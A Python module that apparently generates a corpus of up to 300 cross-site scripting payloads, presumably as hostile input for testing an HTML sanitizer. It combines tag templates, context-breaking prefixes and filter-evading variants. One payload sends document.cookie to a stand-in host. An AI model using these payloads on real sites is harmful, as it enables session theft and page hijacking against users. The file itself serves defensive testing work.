"""Three hundred texts that are harmless to read and harmful to run, made from parts: each would run somewhere."""

from itertools import product

_RUNS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "fetch('//x.example/'+document.cookie)",
    "location='//x.example'",
)
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<script/x>{}//",
    "<img src=x onerror={}>",
    "<img src=x onerror\n=\n{}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<object data=javascript:{}></object>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<style>@import '//x.example/{}'</style>",
    "<div style=background:url(javascript:{})>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//x.example/{}'>",
    "<div hx-get=/x hx-trigger=load hx-on:load={}>x</div>",
    "<div data-hx-on-load={}>x</div>",
)
_BREAKS = ('"{}', "'{}", "</textarea>{}", "--></title>{}", "]]>{}", "\\u003c{}", "{{{{7*7}}}}{}", "{{%if 1%}}{}")
_FEW = ("<script>alert(2)</script>", "<img src=x onerror=alert(2)>")

HOSTILE = tuple(
    dict.fromkeys(
        [tag.format(run) for tag, run in product(_TAGS, _RUNS)]
        + [end.format(tag.format(run)) for end, tag, run in product(_BREAKS, _TAGS, _RUNS[:1])]
        + [end.format(tag) for end, tag in product(_BREAKS, _FEW)]
    )
)[:300]
